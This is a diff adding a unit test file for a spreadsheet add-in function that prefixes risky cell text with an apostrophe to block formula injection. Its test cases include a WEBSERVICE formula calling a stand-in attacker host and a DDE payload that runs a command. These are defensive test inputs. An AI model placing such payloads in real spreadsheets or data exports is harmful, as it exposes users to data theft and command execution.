@@ -1,0 +1,37 @@
+import { asCellText, asCellTexts, needsTextPrefix } from "../../../src/taskpane/freeze/cell-text";
+
+describe("asCellText", () => {
+  test.each<[string, string | number | boolean, string | number | boolean]>([
+    ["a formula", '=WEBSERVICE("https://evil.example")', `'=WEBSERVICE("https://evil.example")`],
+    ["a plus sign", "+1+1", "'+1+1"],
+    ["a minus sign", "-2+3", "'-2+3"],
+    ["an at sign", "@SUM(A1)", "'@SUM(A1)"],
+    ["a DDE link", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ["a leading apostrophe (kept as typed)", "'quoted", "''quoted"],
+    ["a tab", "\t=1+1", "'\t=1+1"],
+    ["a line break", "\nline", "'\nline"],
+    ["a NUL", "\u0000x", "'\u0000x"],
+    ["a C1 control", "\u009bx", "'\u009bx"],
+    ["plain text", "Natural gas, Germany", "Natural gas, Germany"],
+    ["an inner equals sign", "a=b", "a=b"],
+    ["empty text", "", ""],
+    ["a negative number", -5, -5],
+    ["a number", 42.5, 42.5],
+    ["a boolean", true, true],
+  ])("%s", (_name, value, written) => {
+    expect(asCellText(value)).toEqual(written);
+    if (typeof value === "string") expect(needsTextPrefix(value)).toBe(written !== value);
+  });
+
+  test("a block keeps its shape", () => {
+    expect(
+      asCellTexts([
+        ["=1", 2],
+        ["x", "-y"],
+      ]),
+    ).toEqual([
+      ["'=1", 2],
+      ["x", "'-y"],
+    ]);
+  });
+});
